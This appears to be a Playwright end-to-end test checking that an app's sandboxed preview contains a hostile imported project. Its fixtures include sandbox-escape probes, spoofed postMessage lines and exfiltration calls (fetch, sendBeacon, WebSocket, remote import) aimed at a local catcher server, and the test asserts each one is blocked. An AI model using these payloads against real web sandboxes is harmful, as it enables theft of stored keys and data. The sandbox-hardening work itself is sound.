import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { readFile, writeFile } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { expect, test } from './harness/fixtures.ts';
import { createProject } from './harness/new-project.ts';
import { configureProvider } from './harness/provider-settings.ts';

/** The generated page: the about:srcdoc frame inside the preview page. */
function generatedPage(page: Page): Frame | undefined {
  return page
    .frames()
    .find((frame) => frame.url() === 'about:srcdoc' && frame.parentFrame()?.url().includes('/sandbox/preview.html'));
}

async function consoleText(page: Page): Promise<string> {
  return (await page.getByRole('list', { name: 'Preview console' }).textContent()) ?? '';
}

/** A server that counts every request: where hostile code would send what it stole. */
async function startCatcher() {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('caught');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { origin, seen, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

/** What the app keeps in IndexedDB that matters here: its databases and its key store. */
async function appStorage(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const names = (await indexedDB.databases()).map((database) => database.name ?? '').sort();
    const rowsOf = async (name: string, store: string) => {
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const request = indexedDB.open(name);
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(new Error(String(request.error)));
      });
      const rows = await new Promise<unknown[]>((resolve, reject) => {
        const request = db.transaction(store).objectStore(store).getAll();
        request.onsuccess = () => resolve(request.result as unknown[]);
        request.onerror = () => reject(new Error(String(request.error)));
      });
      db.close();
      return rows;
    };
    // The keys live in a database of their own generation (orchestra-keys-<n>), sealed.
    const keys = [];
    for (const name of names.filter((each) => each.startsWith('orchestra-keys-'))) {
      keys.push({ name, keys: await rowsOf(name, 'keys'), meta: await rowsOf(name, 'meta') });
    }
    return JSON.stringify({ names, keys, local: { ...localStorage } });
  });
}

const hostileHtml = (catcher: string) => `<!doctype html>
<html lang="en">
  <head>
    <meta charset="utf-8" />
    <title>Hostile</title>
    <link rel="stylesheet" href="styles.css" />
    <link rel="stylesheet" href="${catcher}/stylesheet.css" />
    <script type="module" src="src/app.js"></script>
  </head>
  <body>
    <h1>Hostile page</h1>
    <img src="${catcher}/image.png" alt="" />
    <button id="click-me" onclick="console.info('clicked', 1 + 1)">Click me</button>
    <button id="hang" onclick="for (;;) {}">Hang</button>
    <script>
      console.log('inline script ran with', { answer: 42 });
      console.error('an error line');
      parent.postMessage({ type: 'line', line: { level: 'error', text: 'SPOOFED via parent' } }, '*');
      top.postMessage({ type: 'lines', generation: 1, lines: [{ level: 'error', text: 'SPOOFED via top' }], dropped: 0 }, '*');
      const fake = new MessageChannel();
      parent.postMessage({ type: 'orchestra-preview-boot', generation: 1 }, '*', [fake.port2]);
      for (let generation = 0; generation < 5; generation++)
        parent.postMessage({ type: 'orchestra-preview-boot', generation }, '*', [new MessageChannel().port2]);
      fake.port1.postMessage({ type: 'line', line: { level: 'error', text: 'SPOOFED via a port' } });
    </script>
  </body>
</html>
`;

/** The project's tests, with one that takes a moment: a run that is still going when Reload is pressed. */
const slowTests = `import assert from 'node:assert/strict';
import { test } from 'node:test';
import { addTask } from '../src/tasks.js';

test('adding a task', () => assert.equal(addTask([], 'one').length, 1));
test('a test that takes a moment', () => new Promise((resolve) => setTimeout(resolve, 1500)));
`;

const hostileApp = (catcher: string) => `import { addTask } from './tasks.js';

console.log('module imported', addTask([], 'one').length, 'task');
console.warn('a warning from the module');
const report = (name, run) => {
  try {
    console.log(name + ': ' + run());
  } catch (error) {
    console.log(name + ' refused: ' + error.name);
  }
};
report('indexedDB', () => typeof indexedDB.open('orchestra'));
report('top storage', () => top.localStorage.length);
report('top document', () => top.document.title);
report('parent document', () => parent.document.title);
report('own storage', () => 'items ' + localStorage.length);
report('cookie', () => JSON.stringify(document.cookie));
report('top navigation', () => { top.location = '${catcher}/top'; return 'no error'; });
report('window.open', () => String(window.open('${catcher}/popup')));
report('beacon', () => navigator.sendBeacon('${catcher}/beacon', 'keys'));
report('websocket', () => new WebSocket('${catcher.replace('http', 'ws')}/socket').readyState);
fetch('${catcher}/fetch?stolen=1').then(
  () => console.log('fetch: reached the network'),
  (error) => console.log('fetch refused: ' + error.name),
);
import('${catcher}/module.js').catch((error) => console.log('remote import refused: ' + error.name));
Promise.reject(new Error('nobody caught this'));
setTimeout(() => {
  throw new RangeError('thrown later');
}, 0);
`;

test('the Preview shows a Template web app and its console, and hostile pages stay inside it', async ({
  server,
  profile,
}) => {
  const { page, context } = profile;
  // The service worker controls the app from the start, so the checks runtime it fetches
  // for the first project's tests is cached (and its expiration database made) before the
  // storage snapshot below; the hostile project's warm-up then adds nothing of its own.
  await page.goto(server.url);
  await page.evaluate(() => navigator.serviceWorker.ready);
  await createProject(page, server.url, {
    name: 'Preview starter',
    description: 'A web app for a task list.',
    template: 'web-app',
  });
  await page.getByRole('button', { name: 'Start' }).click();
  await page.getByTestId('plan-review').waitFor();
  await page.getByRole('button', { name: 'Approve plan' }).click();

  await expect
    .poll(() => page.getByTestId('run-status').getAttribute('data-status'), { timeout: 60_000 })
    .toBe('stopped');
  const preview = page.getByRole('region', { name: 'Preview' });
  await preview.waitFor();
  // The template's page: its heading is the project's slug, its form is the task list's.
  await expect.poll(() => generatedPage(page)?.textContent('h1'), { timeout: 60_000 }).toMatch(/\S/);
  // Its modules load (app.js imports ./tasks.js), its form works, its storage is its own.
  await expect.poll(() => generatedPage(page)?.textContent('#count')).toBe('0 left');
  const shown = generatedPage(page);
  await shown?.fill('input[name="title"]', 'Water the plants');
  await shown?.click('button');
  await expect.poll(() => shown?.textContent('#tasks')).toContain('Water the plants');
  await expect.poll(() => shown?.textContent('#count')).toBe('1 left');
  // The generated page is in an opaque origin.
  expect(await shown?.evaluate(() => origin)).toBe('null');

  // A project whose files are hostile: the Template project's bundle with two files replaced.
  await page.goto(`${server.url}/data`);
  const usage = page.getByTestId('project-usage');
  await expect.poll(() => usage.textContent()).toContain('Preview starter');
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export' }).click();
  const exported = await (await downloading).path();
  await page.getByRole('button', { name: 'Delete' }).click();
  await page.getByRole('button', { name: 'Really delete?' }).click();
  await expect.poll(() => usage.count()).toBe(0);

  const catcher = await startCatcher();
  try {
    const bundle = JSON.parse(await readFile(exported, 'utf8')) as {
      events: { type: string; payload: { path?: string; contentHash?: string; size?: number } }[];
      blobs: { hash: string; content: string }[];
    };
    const replacements = new Map([
      ['index.html', hostileHtml(catcher.origin)],
      ['src/app.js', hostileApp(catcher.origin)],
      ['test/tasks.test.js', slowTests],
    ]);
    for (const event of bundle.events) {
      const content = event.payload.path === undefined ? undefined : replacements.get(event.payload.path);
      if (!event.type.startsWith('artifact-') || content === undefined || event.payload.contentHash === undefined)
        continue;
      const hash = createHash('sha256').update(content).digest('hex');
      event.payload.contentHash = hash;
      event.payload.size = Buffer.byteLength(content);
      if (!bundle.blobs.some((blob) => blob.hash === hash)) bundle.blobs.push({ hash, content });
    }
    const hostileFile = `${exported}.hostile.orchestra.json`;
    await writeFile(hostileFile, JSON.stringify(bundle));

    // A key in the key store, and what the app's storage holds before the hostile page runs.
    await page.goto(`${server.url}/settings`);
    await configureProvider(page, 'openai', 'http://127.0.0.1:9/v1', 'sk-preview-secret-key');
    const before = await appStorage(page);
    expect(before).toContain('openai');

    await page.goto(`${server.url}/data`);
    await page.getByLabel('Import a project (.orchestra.json)').setInputFiles(hostileFile);
    await expect.poll(() => page.getByTestId('storage-notice').textContent()).toContain('Imported a project');
    await page.goto(server.url);
    await page.getByTestId('project-list').getByRole('link').first().click();
    const appUrl = page.url();

    await expect
      .poll(async () => (await generatedPage(page)?.textContent('h1'))?.trim(), { timeout: 30_000 })
      .toBe('Hostile page');
    // Its console, under it: every level, where each line came from, errors and rejections.
    await expect.poll(() => consoleText(page)).toContain('remote import refused');
    const lines = await consoleText(page);
    expect(lines).toContain('inline script ran with {answer: 42}');
    expect(lines).toContain('an error line');
    expect(lines).toContain('module imported 1 task');
    expect(lines).toContain('a warning from the module');
    expect(lines).toMatch(/a warning from the modulesrc\/app\.js:4/);
    expect(lines).toContain('Uncaught (in promise) Error: nobody caught this');
    expect(lines).toContain('fetch refused: TypeError');
    expect(lines).toContain('indexedDB refused: SecurityError');
    expect(lines).toContain('top storage refused: SecurityError');
    expect(lines).toContain('top document refused: SecurityError');
    expect(lines).toContain('parent document refused: SecurityError');
    expect(lines).toContain('own storage: items 0');
    expect(lines).toContain('cookie: ""');
    expect(lines).toContain('top navigation refused: SecurityError');
    expect(lines).toContain('window.open: null');
    expect(lines).toContain('remote import refused: TypeError');
    // Lines the page posted itself, pretending to be the preview's channel, are not shown.
    expect(lines).not.toContain('SPOOFED');

    // An inline event handler works; its line arrives with the others.
    await generatedPage(page)?.click('#click-me');
    await expect.poll(() => consoleText(page)).toContain('clicked 2');

    // Navigating the preview frame away is blocked and said so.
    await generatedPage(page)?.evaluate((target) => {
      location.href = `${target}/navigation`;
    }, catcher.origin);
    await expect
      .poll(() => page.getByRole('region', { name: 'Preview' }).textContent())
      .toContain('The page tried to leave the preview; that was blocked.');

    // Opening the project warmed its tests' runtime: the checks frame is there, and it
    // shares the sandbox's process with the preview (Chromium isolates sandboxed frames per site).
    const checksFrame = page.locator('iframe[data-role="checks-sandbox"]');
    await expect.poll(() => checksFrame.count()).toBe(1);

    // Reload shows the page again; an endless loop in it leaves the app responsive.
    await preview.getByRole('button', { name: 'Reload' }).click();
    await expect.poll(async () => (await generatedPage(page)?.textContent('h1'))?.trim()).toBe('Hostile page');
    await generatedPage(page)?.evaluate(() => {
      setTimeout(() => document.getElementById('hang')?.click(), 0);
    });
    await page.waitForTimeout(500);
    const started = Date.now();
    expect(await page.evaluate(() => document.title)).toBeTruthy();
    expect(Date.now() - started).toBeLessThan(2_000);
    // The checks frame's page shares the stuck thread (one process for the sandbox's site)...
    const checksPage = page.frames().find((frame) => frame.url().endsWith('/sandbox/frame.html'));
    const answers = async (frame: Frame | undefined) =>
      (await Promise.race([frame?.evaluate(() => true), page.waitForTimeout(2_000).then(() => false)])) ?? false;
    expect(await answers(checksPage)).toBe(false);
    // ...and yet the tests run, start to end: they talk to its supervisor worker, not to it.
    const passes = async () =>
      ((await page.getByTestId('feed').textContent()) ?? '').split('Tests: 2 of 2 tests pass').length - 1;
    const passed = await passes();
    await page.getByRole('button', { name: 'Run tests', exact: true }).click();
    await expect.poll(passes, { timeout: 30_000 }).toBe(passed + 1);
    // Reload while a run is going and the page is stuck: the preview comes back once the
    // run has ended and the checks frame has let go of the stuck process; the run passes.
    await page.getByRole('button', { name: 'Run tests', exact: true }).click();
    await expect.poll(() => page.getByTestId('checks-progress').textContent()).toContain('Running test/tasks.test.js');
    await preview.getByRole('button', { name: 'Reload' }).click();
    await expect.poll(passes, { timeout: 30_000 }).toBe(passed + 2);
    await expect
      .poll(async () => (await generatedPage(page)?.textContent('h1'))?.trim(), { timeout: 30_000 })
      .toBe('Hostile page');
    await generatedPage(page)?.evaluate(() => {
      setTimeout(() => document.getElementById('hang')?.click(), 0);
    });
    await page.waitForTimeout(500);
    // The stuck page's process is left behind whole: the new page shows even though the
    // checks frame was warm, and the tests still run, in a fresh frame.
    await preview.getByRole('button', { name: 'Reload' }).click();
    await expect.poll(async () => (await generatedPage(page)?.textContent('h1'))?.trim()).toBe('Hostile page');
    await expect.poll(() => checksFrame.count()).toBe(1);
    await page.getByRole('button', { name: 'Run tests', exact: true }).click();
    await expect.poll(passes, { timeout: 60_000 }).toBe(passed + 3);

    // Nothing left the sandbox: no request reached the catcher, no window opened, the app stayed put.
    expect(catcher.seen).toEqual([]);
    expect(context.pages()).toHaveLength(1);
    expect(page.url()).toBe(appUrl);
    expect(await appStorage(page)).toBe(before);
  } finally {
    await catcher.close();
  }
}, 240_000);
